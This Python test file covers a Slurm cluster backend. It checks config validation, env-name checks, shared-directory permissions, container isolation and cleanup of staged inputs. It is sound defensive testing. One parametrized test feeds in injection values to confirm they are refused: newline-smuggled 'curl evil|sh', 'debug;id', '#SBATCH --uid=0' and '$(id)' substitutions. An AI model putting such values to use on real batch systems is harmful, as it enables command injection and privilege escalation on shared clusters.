"""The Slurm backend on a shared cluster: config values that reach the batch script are checked
by type at config load, env names are checked, shared_dir must be private, a task container
sees only its own job, and staged inputs leave the node however a task ends (issue 22)."""
from __future__ import annotations

import time
from pathlib import Path

import pytest

import spmd
from spmd.batch_queue import ArraySpec, Resources
from spmd.testing.fixtures import WAIT, wait_for
from spmd.testing.functions import square
from spmd_slurm import script, slurm


@pytest.mark.parametrize("key, value", [
    ("partition", "normal\ncurl evil|sh"), ("partition", "debug;id"), ("account", "lab 42"),
    ("qos", "short\n#SBATCH --uid=0"), ("sbatch_options", ["--qos=short\ncurl evil|sh"]),
    ("sbatch_options", ["qos=short"]), ("shared_dir", "/scratch/me\n/evil"),
    ("shared_dir", "/scratch/$(id)"), ("python", "/usr/bin/python3\nid"),
])
def test_a_value_that_would_reach_the_batch_script_is_refused_at_config_load(key, value):
    config = {"shared_dir": "/scratch/me/spmd", key: value}
    with pytest.raises(spmd.ConfigError) as caught:
        spmd.Knot(square, backend="slurm", config=config)
    assert caught.value.key == key, caught.value


def test_names_and_lists_of_partitions_pass_and_reach_sbatch_as_they_are():
    knot = spmd.Knot(square, backend="slurm", config={
        "shared_dir": "/scratch/me/spmd", "partition": "short,long", "account": "lab-42",
        "qos": "high.prio", "sbatch_options": ["--constraint=avx2"]})
    spec = ArraySpec("j1", "", ("python3", "-m", "spmd.task.worker"), 1, Resources())
    text = script.render(spec, 0, 1, knot.backend.options(), "/m", "/o/%A_%a.out")
    for line in ("--partition=short,long", "--account=lab-42", "--qos=high.prio",
                 "--constraint=avx2"):
        assert f"#SBATCH {line}\n" in text


def test_an_env_name_the_script_cannot_export_is_refused_before_anything_is_submitted(
        slurm_config):
    before = slurm.run(["squeue", "--noheader", "--states=all", "--format=%i"]).split()
    knot = spmd.Knot(square, backend="slurm", config=slurm_config, env={"X=1;id;Y": "v"})
    with pytest.raises(spmd.ConfigError, match="not a shell variable name") as caught:
        knot.map([1])
    assert caught.value.key == "env"
    assert slurm.run(["squeue", "--noheader", "--states=all", "--format=%i"]).split() == before


def test_a_shared_dir_others_can_read_is_refused_at_map_with_the_chmod(slurm_config, tmp_path):
    shared = tmp_path / "open"
    shared.mkdir(mode=0o755)
    shared.chmod(0o755)
    knot = spmd.Knot(square, backend="slurm", config={**slurm_config, "shared_dir": str(shared)})
    with pytest.raises(spmd.ConfigError, match=f"chmod go-rwx {shared}") as caught:
        knot.map([1])
    assert caught.value.key == "shared_dir" and "read by other users" in str(caught.value)
    assert not (shared / "store").exists()  # nothing written
    fresh = tmp_path / "new" / "spmd"  # made by spmd: private
    spmd.Knot(square, backend="slurm", config={**slurm_config, "shared_dir": str(fresh)}
              ).backend.check_private()
    assert fresh.stat().st_mode & 0o777 == 0o700


def test_a_docker_task_sees_its_own_job_and_no_host_network_unless_asked():
    options = script.Options(runtime="docker", shared_dir="/sh")
    volumes = ["/sh/store/spmd/jobs/j1", "/sh/store/spmd/data"]
    plain = ArraySpec("j1", "spmd-task:t", ("python3", "-m", "spmd.task.worker"), 1, Resources())
    line = script.task_command(plain, options, volumes)
    assert "--network" not in line
    assert "--volume /sh/store/spmd/jobs/j1:/sh/store/spmd/jobs/j1" in line
    assert "--volume /sh:/sh" not in line and "/sh/store:" not in line
    asked = ArraySpec("j1", "spmd-task:t", ("python3",), 1, Resources(), network=True)
    assert "--network=host" in script.task_command(asked, options, volumes)


def wait_then(seconds):
    time.sleep(seconds)
    return seconds


def staged(path, seconds):
    """Read an uploaded file (staged into the task's TMPDIR), then wait."""
    data = Path(path).read_bytes()
    time.sleep(seconds)
    return len(data)


def test_staged_inputs_leave_the_node_when_a_task_times_out_or_is_cancelled(
        slurm_config, tmp_path, monkeypatch):
    node_tmp = tmp_path / "node-tmp"  # the nodes' TMPDIR (Slurm exports the submitter's)
    node_tmp.mkdir()
    monkeypatch.setenv("TMPDIR", str(node_tmp))
    subject = tmp_path / "home" / "sub-01.nii"  # not on a shared path: uploaded, then staged
    subject.parent.mkdir()
    subject.write_bytes(b"subject data" * 1000)

    def left_behind():
        return [p for p in node_tmp.rglob("sub-01.nii")]

    timed = spmd.Knot(staged, backend="slurm", config=slurm_config, timeout=3)
    job = timed.map([spmd.Args(spmd.File(subject), 600)], starmap=True)
    wait_for(lambda: left_behind(), what="the input staged on the node")  # the test can see it
    assert isinstance(job.futures[0].exception(timeout=WAIT), spmd.TaskTimedOut)
    wait_for(lambda: not left_behind(), what="the staged input removed after the timeout")

    job = spmd.Knot(staged, backend="slurm", config=slurm_config).map(
        [spmd.Args(spmd.File(subject), 600)], starmap=True)
    wait_for(lambda: left_behind(), what="the input staged on the node")
    job.cancel()
    wait_for(lambda: job.status().get("CANCELLED") == 1, what="the task cancelled")
    wait_for(lambda: not left_behind(), what="the staged input removed after the cancel")
    # nor the scratch folder: the batch script removes it as it ends, after the task it
    # passed the TERM to has saved its checkpoint and the script's grace (10 s) has passed
    wait_for(lambda: not list(node_tmp.iterdir()), what="the task's scratch folder removed")
